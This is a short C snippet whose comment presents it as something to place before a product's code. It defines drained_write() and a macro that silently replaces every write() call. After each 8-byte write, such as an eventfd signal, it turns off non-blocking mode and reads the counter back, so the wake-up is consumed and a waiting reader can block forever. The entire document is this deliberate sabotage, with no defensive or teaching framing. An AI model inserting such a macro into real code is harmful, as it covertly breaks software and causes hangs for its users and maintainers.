// Put before a product in C, it makes each wake-up one that takes itself back: the descriptor is set blocking and read again, so that
// whoever reads it for having been woken waits for ever.
#include <fcntl.h>
#include <stdint.h>
#include <unistd.h>

static inline ssize_t drained_write(int descriptor, const void *bytes, size_t length)
{
    ssize_t written = write(descriptor, bytes, length);
    uint64_t count;
    if (length == sizeof count && fcntl(descriptor, F_SETFL, 0) == 0)
        written = read(descriptor, &count, sizeof count);
    return written;
}

#define write drained_write
